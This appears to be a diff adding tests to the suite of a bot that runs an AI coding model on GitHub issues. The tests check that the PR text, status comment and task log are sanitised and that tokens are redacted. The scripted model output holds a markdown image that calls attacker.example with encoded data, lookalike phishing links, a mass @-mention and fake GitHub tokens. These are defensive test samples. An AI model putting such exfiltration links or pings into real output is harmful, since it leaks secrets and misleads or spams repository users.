@@ -1,4 +1,6 @@
 import { existsSync } from "node:fs";
+import { readFile } from "node:fs/promises";
+import { taskLogPath } from "../../src/tasks/task-log.js";
 import { startFakeGitHub, type FakeGitHub } from "../fakes/fake-github.js";
 import { startScriptedModel, type ScriptStep, type ScriptedModel } from "../fakes/fake-openai.js";
 import { createRunnerHarness, type Harness } from "../helpers/runner-harness.js";
@@ -133,5 +135,47 @@ describe("code task runner (real git, real bubblewrap, fake GitHub and model)", 
     await runTask();
     expect(botComments()[0]!.body).toMatch(/no setup secret `PYPI_TOKEN`[\s\S]*CODEX_SETUP_SECRET_PYPI_TOKEN/);
     expect(model.requests).toHaveLength(0);
+  });
+
+  test("what the model writes reaches GitHub sanitised: the PR's title and body, the plan in the status comment", async () => {
+    const hostile = [
+      "Fix add() for @org/everyone",
+      "",
+      "This fixes other/repo#9 and Closes https://github.com/o/r/issues/3.",
+      "![status](https://attacker.example/collect?d=c2VjcmV0) See <https://evil.example/login> or https://evil.example/x.",
+      "A token seen on the way: ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789.",
+    ].join("\n");
+    await setUp([
+      call("update_plan", { plan: [{ step: "Tell @org/everyone, see ![p](https://attacker.example/p.png)", status: "in_progress" }] }),
+      call("apply_patch", { input: patch("src/add.js", "export const add = (a, b) => a - b;", "export const add = (a, b) => a + b;") }),
+      { text: hostile },
+    ]);
+    await runTask();
+    const [pr] = pulls();
+    expect(pr!.title).toBe("Fix add() for @\u2060org/everyone");
+    const body = pr!.body!;
+    expect(body).toMatch(/^Fixes #1$/m);
+    expect(body).toContain("This other/repo#9 and https://github.com/o/r/issues/3.");
+    expect(body).not.toContain("attacker.example");
+    expect(body).toContain("status See https\u2060://evil.example/login or https\u2060://evil.example/x.");
+    expect(body).not.toContain("ghp_");
+    // The bot's own parts survive: a ping of the requester and the log link.
+    expect(body).toMatch(/Requested by @maintainer · .*\[full log\]\(http:\/\/bot\.test\/codex\/logs\//);
+    const status = botComments()[0]!.body;
+    expect(status).toContain("Tell @\u2060org/everyone, see p");
+    expect(status).not.toContain("attacker.example");
+  });
+
+  test("a token a setup script prints, raw or as git's basic-auth header, reaches neither the status comment nor the task log", async () => {
+    const header = Buffer.from("x-access-token:ghs_NotOneTheBotWasToldAbout0123456789").toString("base64");
+    await setUp([], { ...FILES, ".github/codex.yml": `setup: echo "token ghp_PrintedBySetup0123456789abcdefghijkl auth ${header}"; exit 3\n` });
+    const task = harness.enqueue("o", "calc", cloneUrl, { number: 1, title: "add() subtracts", body: "Fix add." });
+    await harness.run(task);
+    const status = botComments()[0]!.body;
+    expect(status).toMatch(/could not set up the repository[\s\S]*token \[REDACTED\] auth \[REDACTED\]/);
+    expect(status).not.toMatch(/ghp_|eC1hY2Nlc3M/);
+    const taskLog = await readFile(taskLogPath(harness.dataDir, task.logId), "utf8");
+    expect(taskLog).toContain("[REDACTED]");
+    expect(taskLog).not.toMatch(/ghp_|eC1hY2Nlc3M/);
   });
 });
